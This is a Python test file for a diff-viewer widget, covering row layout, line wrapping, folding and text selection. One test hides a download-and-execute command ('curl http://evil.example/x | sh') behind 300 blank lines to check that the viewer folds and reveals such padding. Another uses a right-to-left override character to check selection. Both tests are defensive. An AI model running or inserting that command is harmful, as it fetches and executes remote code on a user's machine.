"""Rows of a diff: where each line stands, wrapped or not."""

from __future__ import annotations

from placet.core.domain.diff import DiffLine, Hunk, Sign
from placet.ui.widgets.diff.code_line import ROW
from placet.ui.widgets.diff.exact import ExactLayout
from placet.ui.widgets.diff.layout import FOLD, HEAD, DiffLayout, RowKind
from placet.ui.widgets.diff.rows import Strip
from placet.ui.widgets.diff.selection import Place, Selection
from support.review_samples import file_diff, hunk

TWO = file_diff(hunk(11, ("a", "b"), before=10), hunk(40, ("c", ""), before=25))


def kinds(layout: DiffLayout) -> list[tuple[RowKind, int, int]]:
    return [tuple(layout.row(row)) for row in range(len(layout.heights))]


def test_folds_heads_and_lines_follow_each_other() -> None:
    layout = DiffLayout(TWO, 80, False)
    fold, head, line = RowKind.FOLD, RowKind.HEAD, RowKind.LINE
    assert kinds(layout) == [
        (fold, 0, -1), (head, 0, -1), (line, 0, 0), (line, 0, 1), (line, 0, 2),
        (fold, 1, -1), (head, 1, -1), (line, 1, 0), (line, 1, 1), (fold, 2, -1),
    ]  # fmt: skip
    assert layout.heights.total == 3 * FOLD + 2 * HEAD + 5 * ROW
    assert layout.hunk_span(1) == (2 * FOLD + HEAD + 3 * ROW, 2 * FOLD + 2 * HEAD + 5 * ROW)


def test_every_line_is_found_again_by_its_row() -> None:
    for wrap in (False, True):
        layout = DiffLayout(TWO, 16, wrap)
        for line in range(layout.line_count):
            strip = layout.strip(layout.rows_of(line).start)
            assert strip is not None
            assert strip.line == line


def test_wrapping_gives_a_line_the_rows_it_needs() -> None:
    text = "word " * 20
    diff = file_diff(
        Hunk(lines=(DiffLine(Sign.ADDED, None, 1, text), DiffLine(Sign.ADDED, None, 2, "x")), unchanged_before=0)
    )
    layout = DiffLayout(diff, 25, True)
    strips = [layout.strip(row) for row in range(1, 5)]
    assert [strip.line for strip in strips if strip] == [0, 0, 0, 0]
    assert "".join(layout.visible(0).shown[s.start : s.end] for s in strips if s) == text
    assert layout.strip(5) == Strip(1, 0, 1)


def test_a_huge_line_wraps_also_when_others_scroll_and_keeps_its_change() -> None:
    old, new = "x," * 500_000, "x," * 500_000 + "y"
    lines = (DiffLine(Sign.REMOVED, 1, None, old), DiffLine(Sign.ADDED, None, 1, new))
    layout = DiffLayout(file_diff(Hunk(lines=lines, unchanged_before=0)), 60, False)
    assert len(layout.heights) < 16
    assert layout.visible(1).shown.endswith(",y")
    assert "999," in layout.visible(0).shown


def test_a_huge_new_line_is_shown_whole() -> None:
    new = "ab" * 5000
    diff = file_diff(Hunk(lines=(DiffLine(Sign.ADDED, None, 1, new),), unchanged_before=0), is_new=True)
    assert DiffLayout(diff, 60, False).visible(0).shown == new


def test_blank_lines_of_a_command_fold_and_open() -> None:
    command = "echo\n" + "\n" * 300 + "curl http://evil.example/x | sh"
    folded = ExactLayout(command, 80, ())
    assert len(folded.heights) == 3
    assert folded.fold(1) == (1, 300)
    assert len(ExactLayout(command, 80, (1,)).heights) == 302


def test_a_selection_takes_the_real_characters() -> None:
    lines = ["first\u202e", "second", "third"]
    selection = Selection()
    selection.anchor, selection.caret = Place(2, 2), Place(0, 4)
    assert selection.text(lines.__getitem__) == "t\u202e\nsecond\nth"
    assert selection.in_line(1, 6) == (0, 7)
    assert selection.in_line(3, 1) is None
